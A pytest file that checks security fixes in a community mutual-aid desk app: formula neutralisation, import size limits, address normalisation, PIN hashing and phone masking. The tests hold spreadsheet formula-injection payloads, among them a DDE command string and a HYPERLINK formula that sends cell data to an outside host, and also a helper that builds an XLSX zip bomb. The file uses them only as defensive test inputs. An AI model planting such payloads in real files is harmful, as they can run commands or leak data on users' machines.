"""Issue 12's findings not covered elsewhere: the read-only folder, re-splits, PIN cost, formulas,
bounds, addresses, cut-off and mis-encoded files, personal data and station settings.

Finding 6 (tampering) is in test_integrity.py; finding 10 (public notices) in
tests/reports/test_fund_pdfs.py; the fuzz corpus in test_fuzz_rosters.py.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

import backend
from mutual_aid_desk.cli import main
from mutual_aid_desk.core.station import Station
from mutual_aid_desk.db import engine as engine_module
from mutual_aid_desk.errors import StorageError

# --- finding 11: a read-only folder is the folder's problem ----------------------------------------


@pytest.mark.sqlite_only
def test_a_read_only_folder_is_exit_8_naming_the_folder(station, db_path: Path, monkeypatch, capsys) -> None:
    """SQLite's own message for a station file in a read-only folder (seen as a non-root user on
    Linux: a WAL file's journal cannot be created) is "attempt to write a readonly database". The
    tests run as root, whom permission bits do not stop, so the connection gives that message here."""
    station.close()
    real_connect = sqlite3.connect

    def read_only_folder(*args, **kwargs):
        if str(args[0]).startswith("file:"):
            raise sqlite3.OperationalError("attempt to write a readonly database")
        return real_connect(*args, **kwargs)

    monkeypatch.setattr(engine_module.sqlite3, "connect", read_only_folder)
    code = main(["--db", str(db_path), "--operator", "赵主任", "--pin", "246810", "households", "list"])
    err = capsys.readouterr().err
    assert code == StorageError.exit_code == 8
    assert "folder" in err and str(db_path.parent) in err and "damaged" not in err and "backup" not in err
    assert len(err.strip().splitlines()) == 1


# --- finding 11: a re-split never turns a household that paid in full into a debtor ----------------


@pytest.fixture
def compound(tmp_path: Path):
    from mutual_aid_desk.core.demo import DEMO_COORDINATOR, DEMO_PIN, build_demo

    st = build_demo(tmp_path / "c.sqlite3", households=317)
    st.volunteers.sign_in(DEMO_COORDINATOR, DEMO_PIN)
    yield st
    st.close()


def test_an_exemption_after_payments_leaves_the_paid_households_paid(compound) -> None:
    from mutual_aid_desk.core.funds import DriveInput, ExemptMode, PaymentInput, ShareStatus

    st = compound
    drive = st.funds.create(DriveInput(title="楼道窗户", cost="7000", split="equal"))
    st.funds.fix_split(drive)
    shares = {s.address: s for s in st.funds.status(drive).shares}
    paid = [a for a in list(shares)[:30]]
    for address in paid:
        st.funds.pay(drive, PaymentInput(address, format_due(shares[address].due_fen), "cash"))
    st.funds.set_exemption(drive, list(shares)[-1], "低保户", ExemptMode.SPREAD)
    status = st.funds.status(drive)
    after = {s.address: s for s in status.shares}
    assert [a for a in paid if after[a].status != ShareStatus.PAID] == []
    assert sum(s.due_fen for s in status.shares) == 700000, "the others carry the difference to the fen"
    # With everybody paid in full, the difference has nobody to go to: it is left uncovered and disclosed.
    for address, line in after.items():
        if line.status not in (ShareStatus.PAID, ShareStatus.EXEMPT):
            st.funds.pay(drive, PaymentInput(address, format_due(line.due_fen), "cash"))
    st.funds.set_exemption(drive, list(shares)[-2], "重病", ExemptMode.SPREAD)
    status = st.funds.status(drive)
    assert {s.status for s in status.shares} == {ShareStatus.PAID, ShareStatus.EXEMPT}
    assert status.uncovered_fen > 0 and sum(s.due_fen for s in status.shares) + status.uncovered_fen == 700000


def format_due(fen: int) -> str:
    from mutual_aid_desk.core.money import format_fen

    return format_fen(fen)


# --- helpers for the file findings -----------------------------------------------------------------

SIGNED_IN = ["--operator", "赵主任", "--pin", "246810"]


def cli(capsys, db: Path, *argv: object) -> tuple[int, str, str]:
    code = main(["--db", str(db), *map(str, argv)])
    out, err = capsys.readouterr()
    return code, out, err


def households(db: Path) -> list[tuple]:
    return backend.raw_query(db, "SELECT address, head, notes, area_centi FROM household ORDER BY id")


def one_plain_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) >= 1 and "Traceback" not in err and "unexpected" not in err, err
    return lines[0]


# --- finding 1: formulas never come back out live --------------------------------------------------

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/?q="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tTAB", "=1+1"]


def test_exports_neutralise_formulas_and_imports_read_them_back(station, db_path: Path, tmp_path: Path,
                                                                capsys) -> None:
    import csv as csv_module

    import openpyxl

    from mutual_aid_desk.core.roster import export_households

    station.settings.add_tag("=1+1")  # even a tag named like a formula (a coordinator added it)
    roster = tmp_path / "roster.csv"
    with open(roster, "w", encoding="utf-8", newline="") as fh:
        w = csv_module.writer(fh)
        w.writerow(["地址", "户主", "备注", "标签"])
        for n, value in enumerate(HOSTILE, start=1):
            w.writerow([f"1-1-{100 + n}", value.strip()[:40], value, "=1+1" if n == 1 else ""])
    station.close()
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", roster)
    assert code == 0, err
    stored = households(db_path)
    st = Station.open(db_path)
    st.volunteers.sign_in("赵主任", "246810")
    files = []
    for name, masked in (("all.xlsx", False), ("masked.xlsx", True), ("all.csv", False), ("masked.csv", True)):
        export_households(st, tmp_path / name, masked=masked)
        files.append(tmp_path / name)
    st.audit.export(tmp_path / "audit.xlsx")
    st.audit.export(tmp_path / "audit.csv")
    files += [tmp_path / "audit.xlsx", tmp_path / "audit.csv"]
    st.close()
    for f in files:
        if f.suffix == ".xlsx":
            wb = openpyxl.load_workbook(f)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (f.name, cell.coordinate, cell.value)
                        if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t":
                            assert cell.quotePrefix, (f.name, cell.coordinate)
        else:
            with open(f, encoding="utf-8-sig", newline="") as fh:
                for row in csv_module.reader(fh):
                    for value in row:
                        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (f.name, value)
    # Each export reads back to the same values: the apostrophe / quote prefix comes off again.
    for name in ("all.xlsx", "all.csv"):
        code, out, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", tmp_path / name)
        assert code == 0 and f"0 added, 0 updated, {len(HOSTILE)} unchanged" in out, (name, out, err)
    assert households(db_path) == stored


# --- finding 2: bounded imports that fail fast -----------------------------------------------------


def test_a_10_mb_single_line_is_refused_in_seconds(station, db_path: Path, tmp_path: Path, capsys) -> None:
    import time

    big = tmp_path / "line.csv"
    big.write_text("地址,户主\n1-1-101," + "x" * (10 * 1024 * 1024), encoding="utf-8")
    station.close()
    started = time.perf_counter()
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", big)
    assert time.perf_counter() - started < 10
    line = one_plain_line(err)
    assert code == 2 and line.startswith("row 2, column B:") and "limit is 4000" in line


def test_a_cell_over_128_kib_names_row_and_column_and_never_exits_70(station, db_path: Path, tmp_path: Path,
                                                                     capsys) -> None:
    f = tmp_path / "cell.csv"
    f.write_text('地址,户主,备注\n1-1-101,张三,ok\n1-1-102,李四,"' + "长" * 140_000 + '"\n', encoding="utf-8")
    station.close()
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", f)
    assert code == 2 and one_plain_line(err).startswith("row 3, column C:")
    assert "field larger than field limit" not in err


def test_too_many_rows_or_columns_or_bytes_are_refused(station, db_path: Path, tmp_path: Path, capsys,
                                                       monkeypatch) -> None:
    from mutual_aid_desk.core import tabular

    monkeypatch.setattr(tabular, "MAX_ROWS", 50)
    monkeypatch.setattr(tabular, "MAX_FILE_BYTES", 4000)
    station.close()
    rows = tmp_path / "rows.csv"
    rows.write_text("地址,户主\n" + "".join(f"1-1-{n},张{n}\n" for n in range(101, 160)), encoding="utf-8")
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", rows)
    assert code == 2 and "more than 50 rows" in one_plain_line(err)
    wide = tmp_path / "wide.csv"
    wide.write_text("地址,户主" + ",x" * 80 + "\n1-1-101,张三" + ",y" * 80 + "\n", encoding="utf-8")
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", wide)
    assert code == 2 and "columns; the limit is 64" in one_plain_line(err)
    fat = tmp_path / "fat.csv"
    fat.write_text("地址,户主,备注\n" + "1-1-101,张三,很长\n" * 400, encoding="utf-8")
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", fat)
    assert code == 2 and "the limit is 4000 bytes" in one_plain_line(err)
    assert households(db_path) == []


def _zip_bomb(path: Path, megabytes: int) -> Path:
    """An XLSX whose one sheet unpacks to ``megabytes`` MB of rows from a few hundred KB."""
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["地址", "户主"])
    wb.save(path)
    with zipfile.ZipFile(path) as src:
        parts = {i.filename: src.read(i) for i in src.infolist()}
    row = b'<row><c t="inlineStr"><is><t>1-1-101</t></is></c></row>'
    sheet = parts["xl/worksheets/sheet1.xml"]
    head, _, tail = sheet.partition(b"</sheetData>")
    body = row * (megabytes * 1024 * 1024 // len(row))
    parts["xl/worksheets/sheet1.xml"] = head + body + b"</sheetData>" + tail
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
    return path


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(station, db_path: Path, tmp_path: Path, capsys) -> None:
    import time
    import tracemalloc

    bomb = _zip_bomb(tmp_path / "bomb.xlsx", 64)
    assert bomb.stat().st_size < 1_000_000
    station.close()
    tracemalloc.start()
    started = time.perf_counter()
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", bomb)
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert code == 2 and "xl/worksheets/sheet1.xml" in one_plain_line(err) and "ordinary spreadsheet" in err
    assert elapsed < 10 and peak < 100 * 1024 * 1024


# --- finding 3: one flat, however it is written ----------------------------------------------------


def test_room_0101_is_room_101_in_imports_search_ballots_and_payments(station, db_path: Path, tmp_path: Path,
                                                                      capsys) -> None:
    from mutual_aid_desk.core.households import HouseholdInput, HouseholdQuery

    station.households.create(HouseholdInput(address="1-1-101", head="张三"))
    parts = tmp_path / "parts.csv"
    parts.write_text("楼栋,单元,室号,户主\n1,1,0101,张三\n1,1,0102,李四\n", encoding="utf-8")
    from mutual_aid_desk.core.roster import apply_import, preview_import

    plan = preview_import(station, parts)
    assert [p.clean.address.text for p in plan.added] == ["1-1-102"] and len(plan.unchanged) == 1
    apply_import(station, plan)
    spoken = tmp_path / "spoken.csv"
    spoken.write_text("地址,户主\n1栋1单元0101室,张三\n01-01-0102,李四\n", encoding="utf-8")
    plan = preview_import(station, spoken)
    assert not plan.added and len(plan.unchanged) == 2
    assert [r.address for r in station.households.all_rows(HouseholdQuery(text="1-1-0101"))] == ["1-1-101"]
    assert station.households.find("1-1-0101").address == "1-1-101"


def test_the_same_flat_twice_in_one_file_names_both_rows(station, tmp_path: Path) -> None:
    from mutual_aid_desk.core.roster import preview_import
    from mutual_aid_desk.errors import ValidationError

    f = tmp_path / "twice.csv"
    f.write_text("楼栋,单元,室号,户主\n901,1,301,王五\n901,1,0301,王五\n", encoding="utf-8")
    with pytest.raises(ValidationError) as exc:
        preview_import(station, f)
    (problem,) = exc.value.problems
    assert problem.row == 3 and "row 2" in str(problem) and "901-1-301" in str(problem)


# --- finding 4: a cut-off file is refused ----------------------------------------------------------


FULL = ("地址,户主,电话,面积,人数\n"
        "903-1-101,王一,13812345678,88.20,3\n"
        "903-1-105,王五,13812345679,124.69,2\n")


@pytest.mark.parametrize("cut", [len(FULL) - 5, len(FULL) - 12, FULL.index("903-1-105") + 8])
def test_a_cut_off_roster_is_refused_and_writes_nothing(station, db_path: Path, tmp_path: Path, capsys,
                                                        cut: int) -> None:
    f = tmp_path / "cut.csv"
    f.write_text(FULL[:cut], encoding="utf-8")
    station.close()
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", f)
    assert code == 2 and "row 3" in one_plain_line(err) and "cut off" in err
    assert households(db_path) == []


def test_a_quoted_cell_cut_off_is_refused(station, tmp_path: Path) -> None:
    from mutual_aid_desk.core.roster import preview_import
    from mutual_aid_desk.errors import ValidationError

    f = tmp_path / "quote.csv"
    f.write_text('地址,户主,备注\n1-1-101,张三,"第一行\n第二行', encoding="utf-8")
    with pytest.raises(ValidationError, match="never closed"):
        preview_import(station, f)


def test_a_stray_quote_inside_an_unquoted_cell_is_no_cut(station, tmp_path: Path) -> None:
    from mutual_aid_desk.core.roster import preview_import

    f = tmp_path / "stray.csv"
    f.write_text('地址,户主,备注\n1-1-101,张三,送了32"电视\n', encoding="utf-8")
    (added,) = preview_import(station, f).added
    assert added.clean.values["notes"] == '送了32"电视'


def test_the_whole_file_without_a_final_newline_still_imports(station, tmp_path: Path) -> None:
    from mutual_aid_desk.core.roster import preview_import

    f = tmp_path / "whole.csv"
    f.write_text(FULL.rstrip("\n"), encoding="utf-8")
    assert len(preview_import(station, f).added) == 2


# --- finding 5: other encodings and other digits ---------------------------------------------------


@pytest.mark.parametrize("encoding, names", [
    ("shift_jis", ["山田太郎", "鈴木花子", "佐藤一郎"]),
    ("big5", ["陳大文", "張小明", "黃美玲"]),
    ("euc-kr", ["김철수", "이영희", "박민준", "최지우"]),
    ("cp1251", ["Иван Петров", "Мария Иванова", "Сергей Смирнов"]),
])
def test_a_file_in_another_encoding_is_refused_naming_row_and_column(station, db_path: Path, tmp_path: Path,
                                                                      capsys, encoding: str, names: list[str]) -> None:
    f = tmp_path / f"{encoding}.csv"
    rows = "address,head,area\n" + "".join(f"1-1-{101 + n},{name},80\n" for n, name in enumerate(names))
    f.write_bytes(rows.encode(encoding))
    station.close()
    code, _, err = cli(capsys, db_path, *SIGNED_IN, "households", "import", f)
    line = one_plain_line(err)
    assert code == 2 and households(db_path) == []
    assert line.startswith("row ") and ("encoding" in line or "UTF-8" in line)


def test_arabic_indic_digits_are_not_digits(station, tmp_path: Path) -> None:
    from mutual_aid_desk.core.roster import preview_import
    from mutual_aid_desk.errors import ValidationError

    f = tmp_path / "digits.csv"
    f.write_text("地址,户主,面积,人数\n1-1-101,张三,١٢٣,٣\n1-1-102,李四,１２３,３\n", encoding="utf-8")
    with pytest.raises(ValidationError) as exc:
        preview_import(station, f)
    assert {(p.row, p.field) for p in exc.value.problems} == {(2, "面积"), (2, "人数")}
    f.write_text("地址,户主,面积,人数\n1-1-102,李四,１２３,３\n", encoding="utf-8")
    (added,) = preview_import(station, f).added
    assert added.clean.values["area_centi"] == 12300 and added.clean.values["members"] == 3


# --- finding 7: personal data needs a name ---------------------------------------------------------


def test_listing_names_and_phones_needs_an_operator_and_a_volunteer_sees_masked_phones(
        station, db_path: Path, capsys) -> None:
    import json

    from mutual_aid_desk.core.households import HouseholdInput

    station.households.create(HouseholdInput(address="1-1-101", head="张晓明", phone="13812345678"))
    station.close()
    for argv in (["households", "list", "--json"], ["volunteer", "list"], ["audit", "list"],
                 ["visits", "list"], ["consultations", "list"]):
        code, out, err = cli(capsys, db_path, *argv)
        assert code == 3 and "--operator" in err and "13812345678" not in out, argv
    code, out, _ = cli(capsys, db_path, "--operator", "钱阿姨", "households", "list", "--json")
    assert code == 0 and json.loads(out)[0]["phone"] == "138****5678"
    code, out, _ = cli(capsys, db_path, *SIGNED_IN, "households", "list", "--json")
    assert code == 0 and json.loads(out)[0]["phone"] == "13812345678"


# --- finding 8: a volunteer's import cannot change the station's tag list ---------------------------


def test_a_volunteers_import_with_new_tags_names_them_and_stops(station, db_path: Path, tmp_path: Path,
                                                                capsys) -> None:
    f = tmp_path / "tags.csv"
    f.write_text("地址,户主,标签\n1-1-101,张三,=1+1\n1-1-102,李四,独居老人\n", encoding="utf-8")
    station.close()
    code, out, err = cli(capsys, db_path, "--operator", "钱阿姨", "households", "import", f)
    assert code == 3 and "=1+1" in err and "coordinator" in err
    assert households(db_path) == []
    assert backend.raw_query(db_path, "SELECT count(*) FROM tag WHERE name = '=1+1'") == [(0,)]
    code, out, _ = cli(capsys, db_path, *SIGNED_IN, "households", "import", f)
    assert code == 0 and "=1+1" in out


# --- finding 9: PINs resist offline guessing -------------------------------------------------------


def test_the_production_pin_cost_is_half_a_second_at_least() -> None:
    """The configured parameters, and one hash with them measured on this machine."""
    import hashlib
    import time

    from mutual_aid_desk.core import operators

    assert operators.PIN_COST == {"n": 2**17, "r": 8, "p": 2}
    started = time.perf_counter()
    hashlib.scrypt(b"123456", salt=b"s" * 16, dklen=32, maxmem=2**28, **operators.PIN_COST)
    assert time.perf_counter() - started >= 0.5


def test_an_old_hash_is_upgraded_at_sign_in_and_old_four_digit_pins_still_work(station, monkeypatch) -> None:
    import hashlib
    import os

    from mutual_aid_desk.core import operators
    from mutual_aid_desk.db.tables import Volunteer
    from mutual_aid_desk.errors import ValidationError

    salt = os.urandom(16)
    old = f"scrypt$16384$8$1${salt.hex()}${hashlib.scrypt(b'2468', salt=salt, n=16384, r=8, p=1, dklen=32).hex()}"
    with station._db.write() as s:
        v = s.exec(operators.select(Volunteer).where(Volunteer.name == "赵主任")).one()
        v.pin_hash = old
        s.add(v)
    assert station.volunteers.sign_in("赵主任", "2468").is_coordinator  # the 4-digit PIN set before still works
    with station._db.read() as s:  # the read model never carries the hash: read the row itself
        stored = s.exec(operators.select(Volunteer.pin_hash).where(Volunteer.name == "赵主任")).one()
    assert stored != old and stored.split("$")[1:4] == [str(v) for v in operators.pin_cost().values()]
    assert operators.check_pin("2468", stored)
    with pytest.raises(ValidationError, match="6 to 12 digits"):
        station.volunteers.add("孙书记", "coordinator", pin="1357")
    assert station.volunteers.add("孙书记", "coordinator", pin="135790").role == "coordinator"


def test_room_0101_is_room_101_for_ballots_and_payments(station) -> None:
    from mutual_aid_desk.core.funds import DriveInput, PaymentInput
    from vote_support import add_households, plan

    ids = add_households(station)
    vote = station.votes.create(plan())
    result = station.votes.submit(vote, "01-1-0101", {"A1": "同意"})
    assert result.household_id == ids["1-1-101"]
    drive = station.funds.create(DriveInput(title="窗户", cost="800", split="equal"))
    station.funds.fix_split(drive)
    assert station.funds.pay(drive, PaymentInput("1栋1单元0101室", "10", "cash")).household_id == ids["1-1-101"]


def test_a_volunteers_audit_listing_masks_phones(station, db_path: Path, capsys) -> None:
    from mutual_aid_desk.core.households import HouseholdInput

    station.households.create(HouseholdInput(address="1-1-101", head="张晓明", phone="13812345678"))
    station.close()
    for argv in (["audit", "list"], ["audit", "list", "--json"]):
        code, out, _ = cli(capsys, db_path, "--operator", "钱阿姨", *argv)
        assert code == 0 and "138****5678" in out and "13812345678" not in out
        code, out, _ = cli(capsys, db_path, *SIGNED_IN, *argv)
        assert code == 0 and "13812345678" in out
